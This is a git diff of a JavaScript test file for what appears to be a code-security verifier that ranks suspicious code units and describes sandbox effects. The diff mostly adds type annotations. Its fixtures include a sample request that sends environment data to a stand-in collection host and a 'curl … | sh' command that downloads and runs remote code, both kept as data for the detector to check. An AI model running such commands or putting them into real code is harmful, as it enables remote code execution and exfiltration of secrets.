@@ -9,7 +9,9 @@ const { describeEffects } = require('../../../server/dist/engine/verify/describe
 const { arbitrate } = require('../../../server/dist/engine/verify/arbitrate.js');
 const { consistencyVerdict } = require('../../../server/dist/core/trace/verdict.js');
 
+/** @type {import('../../../server/dist/core/trace/schema').Effect} */
 const NET = { kind: 'network', target: 'https://collect.example.net/u?d=%7B%22NODE_ENV%22%3A%22production%22', args: [], line: 4 };
+/** @type {(effects: import('../../../server/dist/core/trace/schema').Effect[], value?: import('../../../server/dist/core/trace/schema').JsonValue) => import('../../../server/dist/core/trace/schema').Trace} */
 const trace = (effects, value = 1) => ({ steps: [{ line: 2, state: { x: 1 } }], effects, outcome: { kind: 'return', value } });
 
 test('the adaptive schedule grows 2, 4, then the cap; a fixed one asks for the cap at once', () => {
@@ -22,14 +24,15 @@ test('the adaptive schedule grows 2, 4, then the cap; a fixed one asks for the c
 });
 
 test('static findings outrank sandbox effects, which outrank size', () => {
+  /** @type {(name: string, start: number, end: number, effects: string[], size: number) => any} */
   const unit = (name, start, end, effects, size) => ({ unit: { name, span: { start, end } }, securityEffects: effects, size });
   const units = [unit('big', 0, 100, [], 3000), unit('net', 100, 200, ['network x'], 100), unit('sql', 200, 300, [], 100)];
-  const statics = [{ span: { start: 210, end: 220 } }];
+  const statics = /** @type {import('../../../server/dist/core/types').Finding[]} */ ([{ span: { start: 210, end: 220 } }]);
   assert.deepEqual(rankBySuspicion(units, statics).map((u) => u.unit.name), ['sql', 'net', 'big']);
 });
 
 test('effects are described by host, environment reads are counted', () => {
-  const env = ['*', 'NODE_ENV', 'PORT', 'HOME', 'USER'].map((target) => ({ kind: 'env', target }));
+  const env = ['*', 'NODE_ENV', 'PORT', 'HOME', 'USER'].map((target) => ({ kind: /** @type {const} */ ('env'), target }));
   assert.equal(describeEffects([...env, NET]), 'an https request to collect.example.net/u?d=%7B%22NODE_ENV%22… and reads of 5 environment variables (NODE_ENV, PORT, HOME, …)');
   assert.equal(describeEffects([{ kind: 'process', target: 'curl -s http://x | sh' }]), 'running `curl -s http://x | sh`');
 });
